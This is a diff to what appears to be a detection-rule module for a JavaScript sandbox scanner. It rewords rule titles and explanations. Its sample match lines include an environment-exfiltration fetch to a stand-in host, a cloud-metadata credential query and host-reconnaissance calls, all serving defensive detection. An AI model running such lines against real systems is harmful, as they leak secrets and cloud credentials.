@@ -12,12 +12,12 @@ from engine.models import Confidence, Level, Violation
 
 NETWORK = rule(
     "js-network",
-    "Talks to another machine",
+    "Connects to another machine",
     "net_access",
     MEDIUM,
-    attack="Reports home, or fetches instructions.",
+    attack="Reports to an attacker, or fetches instructions.",
     why="MEDIUM: the sandbox has no network unless it is granted; LOW where the other end is this machine.",
-    fix="Ask for the domain as a capability.",
+    fix="Request the domain as a permission.",
     match=(
         "fetch('https://x.test/a')",
         "require('https').get('https://x.test')",
@@ -30,23 +30,23 @@ NETWORK = rule(
 )
 LISTENER = rule(
     "js-listener",
-    "Waits for connections",
+    "Listens for connections",
     "net_access",
     MEDIUM,
-    attack="Opens a door into the machine, or serves its files.",
-    why="MEDIUM: nothing outside reaches the sandbox.",
-    fix="Run no servers.",
+    attack="Lets an attacker into the machine, or serves its files.",
+    why="MEDIUM: nothing outside can reach the sandbox.",
+    fix="Do not run servers.",
     match=("require('http').createServer(f).listen(80)", "require('express')().listen(3000)"),
     not_match=("bus.listen(f)", "element.addEventListener('x', f)"),
     cwe=923,
 )
 EXFILTRATION = rule(
     "js-exfiltration",
-    "Sends secrets or files away",
+    "Sends secrets or files to another machine",
     "exfil_upload",
     HIGH,
-    attack="Carries the environment, files or facts about the machine out to a server of the attacker's.",
-    why="HIGH: what leaves does not come back.",
+    attack="Sends the environment, files or facts about the machine to the attacker's server.",
+    why="HIGH: data that has left cannot be recalled.",
     fix="Leave results in the workspace, where they are collected.",
     match=(
         "fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) })",
@@ -62,11 +62,11 @@ EXFILTRATION = rule(
 )
 METADATA = rule(
     "js-cloud-metadata",
-    "Asks the cloud's metadata service",
+    "Queries the cloud metadata service",
     "secrets_env",
     HIGH,
-    attack="Reads the credentials of the machine's own cloud role.",
-    why="HIGH: the only thing of value there is credentials.",
+    attack="Reads the credentials of the machine's cloud role.",
+    why="HIGH: the only valuable content there is credentials.",
     fix="Remove it.",
     match=("fetch('http://169.254.169.254/latest/meta-data/')",),
     not_match=("fetch('http://169.1.1.1/')",),
@@ -78,9 +78,9 @@ ENVIRONMENT = rule(
     "Reads the whole environment",
     "secrets_env",
     MEDIUM,
-    attack="Collects every token that is passed in an environment variable.",
-    why="MEDIUM: the sandbox's environment is built from nothing; LOW for a single variable.",
-    fix="Read the one variable that is needed.",
+    attack="Collects every token in the environment variables.",
+    why="MEDIUM: the environment of the sandbox is nearly empty; LOW for a single variable.",
+    fix="Read only the variable that is needed.",
     match=(
         "JSON.stringify(process.env)",
         "const all = { ...process.env }",
@@ -94,12 +94,12 @@ ENVIRONMENT = rule(
 )
 HOST_FACTS = rule(
     "js-host-facts",
-    "Collects facts about the machine or its user",
+    "Collects information about the machine or its user",
     "recon",
     MEDIUM,
     attack="Learns where it runs, to choose the next step or to report it.",
-    why="MEDIUM: serialised or in numbers; LOW for one question.",
-    fix="Ask only what is needed.",
+    why="MEDIUM: serialised, or several facts; LOW for a single fact.",
+    fix="Query only what is needed.",
     match=(
         "JSON.stringify(require('os').userInfo())",
         "const os = require('os'); [os.hostname(), os.userInfo(), os.networkInterfaces()]",
@@ -111,12 +111,12 @@ HOST_FACTS = rule(
 )
 TLS_OFF = rule(
     "js-tls-off",
-    "Does not check who is at the other end",
+    "Does not verify the server's certificate",
     "vuln_lint",
     MEDIUM,
-    attack="Lets anybody in between read and change what is sent.",
-    why="MEDIUM: it needs a network that was granted, and somebody in between.",
-    fix="Leave certificate checks on.",
+    attack="Lets anyone on the network path read and change the data.",
+    why="MEDIUM: needs a granted network and an attacker on its path.",
+    fix="Keep certificate checks on.",
     match=("https.get({ rejectUnauthorized: false })", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'"),
     not_match=("https.get({ rejectUnauthorized: true })", "x.rejectUnauthorized"),
     cwe=295,
@@ -127,7 +127,7 @@ WEAK_CRYPTO = rule(
     "vuln_lint",
     MEDIUM,
     attack="Finds a second text with the same digest, or the key.",
-    why="MEDIUM: it depends on what is protected.",
+    why="MEDIUM: depends on what is protected.",
     fix="Use SHA-256 or better, AES-GCM, and crypto.randomBytes.",
     match=(
         "require('crypto').createHash('md5')",
@@ -139,10 +139,10 @@ WEAK_CRYPTO = rule(
 )
 MARKUP = rule(
     "js-markup",
-    "Writes text into a page as markup",
+    "Writes text into a page as HTML",
     "vuln_lint",
     LOW,
-    attack="Runs script that is hidden in the text.",
+    attack="Runs a script that is hidden in the text.",
     why="LOW: the sandbox has no page; MEDIUM where escaping is switched off.",
     fix="Use textContent.",
     match=("el.innerHTML = x", "document.write(x)", "engine.escapeMarkup = false"),
@@ -244,7 +244,7 @@ def _environment(program: Program) -> Iterator[Violation]:
         if "process.env" in text
         else ()
     ):
-        yield ENVIRONMENT.violation(program.tree.lines.span(*match.span()), "Walks through process.env")
+        yield ENVIRONMENT.violation(program.tree.lines.span(*match.span()), "Enumerates process.env")
 
 
 def _weak(program: Program, call: JavaScriptCall) -> Iterator[Violation]:
